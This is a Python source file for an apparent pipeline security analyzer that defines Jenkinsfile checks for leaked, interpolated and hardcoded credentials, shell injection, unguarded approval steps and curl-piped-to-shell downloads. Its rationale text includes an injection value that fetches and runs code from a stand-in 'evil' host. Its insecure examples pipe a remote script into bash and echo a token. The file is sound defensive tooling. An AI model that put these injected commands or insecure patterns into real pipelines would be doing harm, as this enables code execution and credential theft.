"""Jenkinsfile checks: credentials in logs and GStrings, parameter injection, input approvals, downloads."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import partial

from pavedroad.analyzers.iac.check import Check, Project, Violation
from pavedroad.analyzers.iac.model import Resource
from pavedroad.analyzers.pipelines.credentials import literal_credential
from pavedroad.analyzers.pipelines.jenkins_text import Groovy, Literal, interpolations, shell_scripts
from pavedroad.analyzers.pipelines.shellscan import CURL_PIPE_SHELL, printed, strip_comment
from pavedroad.core.findings import Confidence, Severity

jenkins_check = partial(Check, frameworks=("jenkins",), kinds=("jenkinsfile",))

JENKINS_CREDENTIALS = "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#handling-credentials"
JENKINS_INTERPOLATION = "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#string-interpolation"
JENKINS_INJECTION = "https://www.jenkins.io/doc/book/pipeline/jenkinsfile/#injection-via-interpolation"

# Names a variable holding a secret is usually given.
SECRET_VARIABLE = re.compile(r"PASSWORD|PASSWD|TOKEN|SECRET|API_?KEY|PRIVATE_?KEY|_PSW$", re.IGNORECASE)
# withCredentials bindings that hold the secret itself (not a file path or a user name).
_SECRET_BINDING_KEYS = ("passwordVariable", "passphraseVariable", "tokenVariable", "variable")
_PATH_BINDINGS = frozenset({"file", "certificate", "zip", "dockerCert", "FileBinding", "CertificateMultiBinding"})
_BINDING = re.compile(
    r"\b(\w+)\s*\(([^()]*credentialsId[^()]*)\)|\[\s*\$class\s*:\s*'(\w+)'([^\]]*credentialsId[^\]]*)\]"
)
_BINDING_ARGUMENT = re.compile(r"(\w+)\s*:\s*['\"](\w+)['\"]")
_ENVIRONMENT_CREDENTIAL = re.compile(r"\b(\w+)\s*=\s*credentials\s*\(")
# Build causes an outsider controls: parameters (whoever can start a build) and pull request metadata.
ATTACKER_CONTROLLED = re.compile(
    r"\bparams\.\w+|(?:\benv\.)?\b(?:CHANGE_TITLE|CHANGE_BRANCH|CHANGE_FORK|BRANCH_NAME|CHANGE_AUTHOR"
    r"(?:_DISPLAY_NAME|_EMAIL)?|GIT_BRANCH|TAG_NAME)\b"
)


def _credential_variables(groovy: Groovy) -> set[str]:
    """Variables bound to secrets: withCredentials bindings and `NAME = credentials('id')` (NAME, NAME_PSW)."""
    names: set[str] = set()
    for match in _BINDING.finditer(groovy.code):
        binding = match.group(1) or match.group(3)
        arguments = match.group(2) or match.group(4) or ""
        for key, name in _BINDING_ARGUMENT.findall(arguments):
            if key in _SECRET_BINDING_KEYS and not (key == "variable" and binding in _PATH_BINDINGS):
                names.add(name)
    for match in _ENVIRONMENT_CREDENTIAL.finditer(groovy.code):
        names.update({match.group(1), match.group(1) + "_PSW"})
    return names


def _is_secret(name: str, bound: set[str]) -> bool:
    return name in bound or bool(SECRET_VARIABLE.search(name))


_SHELL_REFERENCE = re.compile(r"\$\{?(?:env[.:])?(\w+)\}?|%(\w+)%")
_GROOVY_ECHO = re.compile(r"(?m)^[ \t]*(?:echo|println|print)\b[ \t]*\(?")
_BARE_REFERENCE = re.compile(r"^\s*(?:env\.)?(\w+)\s*\)?\s*$")


def _groovy_echo_secret(groovy: Groovy, bound: set[str], offset: int) -> str | None:
    """The secret a Groovy `echo`/`println` at `offset` prints: interpolated in a GString, or passed bare."""
    literal = groovy.literal_at(offset)
    if literal is not None:
        found = [name for _, expression in interpolations(groovy, literal) for name in re.findall(r"\w+", expression)]
        return next((name for name in found if name != "env" and _is_secret(name, bound)), None)
    line_end = groovy.code.find("\n", offset)
    bare = _BARE_REFERENCE.match(groovy.code[offset : line_end if line_end >= 0 else None])
    return bare.group(1) if bare and _is_secret(bare.group(1), bound) else None


def _credential_echo(resource: Resource, project: Project) -> Iterator[Violation]:
    groovy = Groovy.of(resource)
    if groovy is None:
        return
    bound = _credential_variables(groovy)
    for match in _GROOVY_ECHO.finditer(groovy.code):
        if groovy.literal_containing(match.start()) is None:
            secret = _groovy_echo_secret(groovy, bound, match.end())
            if secret:
                yield Violation(groovy.line_of(match.start()), f"echo prints the secret {secret}", secret)
    for literal in shell_scripts(groovy):
        for line, text in groovy.body_lines(literal):
            shown = printed(strip_comment(text))
            references = _SHELL_REFERENCE.findall(shown or "")
            secret = next((a or b for a, b in references if _is_secret(a or b, bound)), None)
            if secret:
                yield Violation(line, f"shell echo prints the secret {secret}", secret)


def _shell_interpolations(groovy: Groovy) -> Iterator[tuple[Literal, int, str]]:
    for literal in shell_scripts(groovy):
        for offset, expression in interpolations(groovy, literal):
            yield literal, offset, expression


def _groovy_injection(resource: Resource, project: Project) -> Iterator[Violation]:
    groovy = Groovy.of(resource)
    for _, offset, expression in _shell_interpolations(groovy) if groovy else ():
        match = ATTACKER_CONTROLLED.search(expression)
        if match and groovy is not None:
            yield Violation(
                groovy.line_of(offset),
                f"${{{expression}}} is interpolated by Groovy into a shell script; its value becomes code",
                match.group(0),
            )


def _secret_interpolation(resource: Resource, project: Project) -> Iterator[Violation]:
    groovy = Groovy.of(resource)
    bound = _credential_variables(groovy) if groovy else set()
    for _, offset, expression in _shell_interpolations(groovy) if groovy else ():
        secret = next((name for name in re.findall(r"\w+", expression) if name in bound), None)
        if secret and groovy is not None:
            yield Violation(
                groovy.line_of(offset),
                f"the credential {secret} is interpolated by Groovy into the shell command line",
                secret,
            )


# `input message: '...'`, `def ok = input(...)`, and the declarative stage directive `input { ... }`.
_INPUT_STEP = re.compile(r"(?m)^[ \t]*(?:(?:def\s+)?\w+\s*=\s*)?input\b[ \t]*(?=[({'\"]|\w+\s*:)")


def _input_statement(groovy: Groovy, start: int, end: int) -> str:
    """The text of an input step from its keyword: up to the matching bracket, or the line (and continuations)."""
    offset = end
    while offset < len(groovy.code) and groovy.code[offset] in " \t":
        offset += 1
    if offset < len(groovy.code) and groovy.code[offset] in "({":
        return groovy.code[start : groovy.closing(offset) + 1]
    stop = offset
    while True:
        newline = groovy.code.find("\n", stop)
        if newline < 0:
            return groovy.code[start:]
        if not groovy.code[stop:newline].rstrip().endswith(","):
            return groovy.code[start:newline]
        stop = newline + 1


def _input_without_submitter(resource: Resource, project: Project) -> Iterator[Violation]:
    groovy = Groovy.of(resource)
    for match in _INPUT_STEP.finditer(groovy.code) if groovy else ():
        if groovy is None or groovy.literal_containing(match.start()) is not None:
            continue
        statement = _input_statement(groovy, match.start(), match.end())
        if not re.search(r"\bsubmitter\b", statement):
            line = groovy.line_of(match.end())
            yield Violation(line, "input step without submitter: anyone who can build the job can approve it", "input")


def _curl_pipe_shell(resource: Resource, project: Project) -> Iterator[Violation]:
    groovy = Groovy.of(resource)
    for number, text in enumerate(groovy.code.split("\n") if groovy else [], start=1):
        match = CURL_PIPE_SHELL.search(strip_comment(text))
        if match:
            yield Violation(number, "downloaded script piped into a shell", match.group(0))


_ENVIRONMENT_BLOCK = re.compile(r"\benvironment\s*\{")
_ASSIGNMENT = re.compile(r"(?m)^[ \t]*(\w+)[ \t]*=[ \t]*")
_WITH_ENV = re.compile(r"\bwithEnv\s*\(\s*\[")


def _environment_values(groovy: Groovy) -> Iterator[tuple[str, Literal, str]]:
    """(name, literal, value) of literal assignments in `environment {}` blocks and `withEnv([...])` lists."""
    for block in _ENVIRONMENT_BLOCK.finditer(groovy.code):
        opening = block.end() - 1
        end = groovy.closing(opening)
        for assignment in _ASSIGNMENT.finditer(groovy.code, opening + 1, end):
            literal = groovy.literal_at(assignment.end())
            if literal is not None:
                yield assignment.group(1), literal, groovy.body(literal)
    for call in _WITH_ENV.finditer(groovy.code):
        end = groovy.closing(call.end() - 1)
        for literal in groovy.literals:
            if call.end() <= literal.start < end:
                name, equals, value = groovy.body(literal).partition("=")
                if equals:
                    yield name.strip(), literal, value


def _hardcoded_credential(resource: Resource, project: Project) -> Iterator[Violation]:
    groovy = Groovy.of(resource)
    for name, literal, value in _environment_values(groovy) if groovy else ():
        if literal.interpolated and "$" in value:
            continue  # a GString built from other values
        secret = literal_credential(name, value)
        if secret and groovy is not None:
            yield Violation(
                groovy.line_of(literal.start), f"{name} is a credential written in the Jenkinsfile", secret, True
            )


CHECKS: tuple[Check, ...] = (
    jenkins_check(
        id="pipelines/jenkins-credential-echo",
        title="Credential printed to the build log",
        severity=Severity.HIGH,
        evaluate=_credential_echo,
        rationale="The Credentials Binding plugin masks a bound secret's exact value in the console, but not a"
        " variable named like a secret that was never bound, not values a command transforms (base64, a"
        " substring), and not masking failures for short or multi-line secrets: the build log, readable by every"
        " user with Job/Read, then holds the credential.",
        fix="Never print credentials. Pass them to the command that needs them through the environment"
        " (single-quoted `sh '... $TOKEN'`) or stdin, and print only whether they are set.",
        insecure_example="withCredentials([string(credentialsId: 'api', variable: 'API_TOKEN')]) {\n"
        "    sh 'echo $API_TOKEN'\n}",
        secure_example="withCredentials([string(credentialsId: 'api', variable: 'API_TOKEN')]) {\n"
        "    sh 'curl -H \"Authorization: Bearer $API_TOKEN\" https://api.example.com'\n}",
        controls=("CIS-SSCS-2.3.8", "NIST-800-53-SC-28", "NIST-800-53-AU-9", "SOC2-CC6.1"),
        cwe=("CWE-532",),
        references=(JENKINS_CREDENTIALS, "https://plugins.jenkins.io/credentials-binding/"),
    ),
    jenkins_check(
        id="pipelines/jenkins-groovy-injection",
        title="Build parameter or branch metadata interpolated into a shell step",
        severity=Severity.HIGH,
        evaluate=_groovy_injection,
        rationale="In a double-quoted Groovy string `${params.X}` and `${env.CHANGE_TITLE}` are substituted before"
        " the shell sees the script: a parameter value or a pull request title/branch like `x; curl evil | sh`"
        " becomes commands running on the agent with the job's credentials. Single-quoted strings pass the name"
        " to the shell, which expands it as data.",
        fix="Use single quotes and let the shell expand the variable (`sh 'echo \"$BRANCH_NAME\"'`); expose"
        ' parameters with `withEnv(["VERSION=${params.VERSION}"])` and quote them in the script.',
        insecure_example='sh "git checkout ${env.CHANGE_BRANCH} && ./deploy ${params.TARGET}"',
        secure_example='withEnv(["TARGET=${params.TARGET}"]) {\n'
        '    sh \'git checkout "$CHANGE_BRANCH" && ./deploy "$TARGET"\'\n}',
        controls=("CIS-SSCS-2.3.5", "NIST-800-53-SI-10", "SOC2-CC8.1"),
        cwe=("CWE-78", "CWE-94"),
        references=(JENKINS_INJECTION, JENKINS_INTERPOLATION),
    ),
    jenkins_check(
        id="pipelines/jenkins-secret-interpolation",
        title="Credential interpolated by Groovy into a shell step",
        severity=Severity.MEDIUM,
        evaluate=_secret_interpolation,
        rationale='`sh "curl -u ${USER}:${PASS}"` puts the secret into the command line Jenkins starts: it is'
        " visible in the agent's process list to other jobs and users on that machine, can reach the log through"
        " `set -x`, and Jenkins warns about it in every build.",
        fix="Use a single-quoted string so the shell reads the variable from its environment:"
        " `sh 'curl -u \"$USER:$PASS\" https://...'`.",
        insecure_example="withCredentials([usernamePassword(credentialsId: 'repo', usernameVariable: 'USER',"
        " passwordVariable: 'PASS')]) {\n    sh \"curl -u ${USER}:${PASS} https://repo.example.com\"\n}",
        secure_example="withCredentials([usernamePassword(credentialsId: 'repo', usernameVariable: 'USER',"
        " passwordVariable: 'PASS')]) {\n    sh 'curl -u \"$USER:$PASS\" https://repo.example.com'\n}",
        controls=("CIS-SSCS-2.1.7", "NIST-800-53-SC-28", "SOC2-CC6.1"),
        cwe=("CWE-214",),
        references=(JENKINS_INTERPOLATION, JENKINS_CREDENTIALS),
    ),
    jenkins_check(
        id="pipelines/jenkins-input-without-submitter",
        title="Approval step that anyone can approve",
        severity=Severity.MEDIUM,
        confidence=Confidence.MEDIUM,
        evaluate=_input_without_submitter,
        rationale="Without `submitter`, every user with Job/Build permission (often the whole team, sometimes"
        " anonymous) can approve the input, so the manual gate before a production deployment or a release"
        " enforces no separation of duties.",
        fix="Name the approvers: `input message: 'Deploy?', submitter: 'release-managers'` (users or groups,"
        " comma-separated).",
        insecure_example="input message: 'Deploy to production?'",
        secure_example="input message: 'Deploy to production?', submitter: 'release-managers'",
        controls=("CIS-SSCS-2.3.5", "NIST-800-53-AC-5", "NIST-800-53-CM-3", "SOC2-CC8.1"),
        cwe=("CWE-284",),
        references=("https://www.jenkins.io/doc/pipeline/steps/pipeline-input-step/",),
    ),
    jenkins_check(
        id="pipelines/jenkins-curl-pipe-shell",
        title="Script downloaded and piped straight into a shell",
        severity=Severity.MEDIUM,
        evaluate=_curl_pipe_shell,
        rationale="Whatever the server returns runs on the agent with the build's credentials, unverified: a"
        " compromised host or install script becomes code execution in your pipeline, and on a static agent it"
        " can persist for later builds.",
        fix="Download to a file, verify its checksum or signature, then run it; or bake the tool into the agent image.",
        insecure_example="sh 'curl -sSL https://example.com/install.sh | bash'",
        secure_example="sh '''\n    curl -sSLo install.sh https://example.com/v1.2.3/install.sh\n"
        "    echo \"<sha256>  install.sh\" | sha256sum -c -\n    bash install.sh\n'''",
        controls=("CIS-SSCS-2.4.2", "CIS-SSCS-2.4.3", "SLSA-L3", "NIST-800-53-SI-7", "SOC2-CC8.1"),
        cwe=("CWE-494",),
        references=("https://www.jenkins.io/doc/book/security/",),
    ),
    jenkins_check(
        id="pipelines/jenkins-hardcoded-credential",
        title="Credential written in clear in a Jenkinsfile",
        severity=Severity.HIGH,
        evaluate=_hardcoded_credential,
        rationale="The Jenkinsfile is in the repository: everyone who can read it (and its history) has the"
        " credential, and Jenkins does not mask values it does not know are secret.",
        fix="Revoke the credential, store it in the Jenkins credentials store (or a vault) and bind it:"
        " `environment { DB_PASSWORD = credentials('db-password') }`.",
        insecure_example="environment {\n    DB_PASSWORD = 'Example-Zq8rLw3nVt6y'\n}",
        secure_example="environment {\n    DB_PASSWORD = credentials('db-password')\n}",
        controls=("CIS-SSCS-2.3.8", "CIS-SSCS-1.5.1", "NIST-800-53-IA-5", "SOC2-CC6.1"),
        cwe=("CWE-798",),
        references=(JENKINS_CREDENTIALS,),
    ),
)
